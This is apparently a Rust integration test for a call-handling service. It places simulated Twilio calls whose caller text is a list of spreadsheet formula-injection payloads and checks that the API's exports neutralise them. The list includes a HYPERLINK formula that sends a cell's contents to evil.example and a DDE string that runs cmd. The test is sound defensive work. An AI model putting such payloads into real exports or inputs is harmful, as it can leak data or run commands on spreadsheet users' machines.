//! The API's description and its exports, judged by those who read such things.

use std::time::Duration;

use call::journal::{Entry, Kind, Speaker, Turn};
use conformance::python::{Desk, judge};
use serde_json::json;
use store::{Source, Status, StatusFact, Store};
use whole_calls::{API_TOKEN, House, NUMBER, Options};
use wire::twilio::{AccountSid, CallSid, signature};

/// The worker has looked at the calls by then.
const WORKED_ON_WITHIN: Duration = Duration::from_secs(30);

/// What callers say and are called whom a spreadsheet must not obey.
const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "=1+1,=2+2",
    "a;=1+1",
    "\"=1+1",
    "'=1+1",
    "two\r\n=1+1",
    "＝1+1",
];

/// A call that somebody with a name like this made, who said something like it.
async fn call(store: &Store, house: &House, n: u128, text: &str) {
    let (sid, account) = (CallSid::from_number(n), AccountSid::from_number(1));
    let (sid_text, account) = (sid.to_string(), account.to_string());
    let form = [
        ("CallSid", sid_text.as_str()),
        ("AccountSid", account.as_str()),
        ("From", text),
        ("To", NUMBER),
        ("Direction", "inbound"),
        ("CallStatus", "ringing"),
    ];
    let url = format!("{}/twilio/voice", house.base);
    let signed = signature::sign(house.auth_token(), &url, form);
    let client = reqwest::Client::builder().no_proxy().build().expect("a client can be made");
    let answer = client.post(&url).header("x-twilio-signature", signed).form(&form).send().await;
    let answer = answer.expect("the control plane answers");
    assert!(answer.status().is_success(), "{text:?}: {}", answer.text().await.unwrap_or_default());

    let call = store.call_by_sid(sid).await.expect("the call was opened");
    let turn = Turn {
        n: 1,
        speaker: Speaker::Caller,
        text: text.to_owned(),
        heard_text: text.to_owned(),
        approximate: false,
        start_ms: 0,
        end_ms: 900,
        heard_ms: 900,
        interrupted: false,
        engine: None,
        expressions: Vec::new(),
    };
    let entry = |seq: u64, kind| Entry { epoch: 1, seq: 1_000 + seq, at_ms: store.now().as_ms(), kind };
    let sound =
        Kind::FirstSound { n: 2, caller_end_ms: Some(900), arrived_ms: 1_500, played_ms: 1_520, way_ms: Some(80) };
    store.append_journal(call.id, &[entry(1, Kind::Turn(turn)), entry(2, sound)]).await.expect("the store takes it");
    let over = StatusFact {
        status: Status::Completed,
        at: store.now(),
        source: Source::Callback,
        duration_s: Some(1),
        sip_code: None,
    };
    store.record_status(call.id, over).await.expect("the store takes it");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn our_api_is_as_described_and_its_exports_obey_nobody() {
    let house = House::start(Options::default()).await.expect("this machine has ports and threads");
    let store = house.open_store().await;
    for (n, text) in (1..).zip(HOSTILE) {
        call(&store, &house, n, text).await;
    }
    let began = std::time::Instant::now();
    loop {
        let days = house.get("/v1/latency", &[]).await.expect("the API answers");
        if days.json()["total"]["total"]["count"] == HOSTILE.len() {
            break;
        }
        assert!(began.elapsed() < WORKED_ON_WITHIN, "the worker has not looked at the calls");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let desk = Desk::new("api");
    let hostile = desk.write("hostile", HOSTILE.map(|text| json!({ "text": text.replace("\r\n", "\n") })));
    judge("api", &[("API_URL", house.base.clone()), ("API_TOKEN", API_TOKEN.to_owned()), ("HOSTILE", hostile)]).await;
}
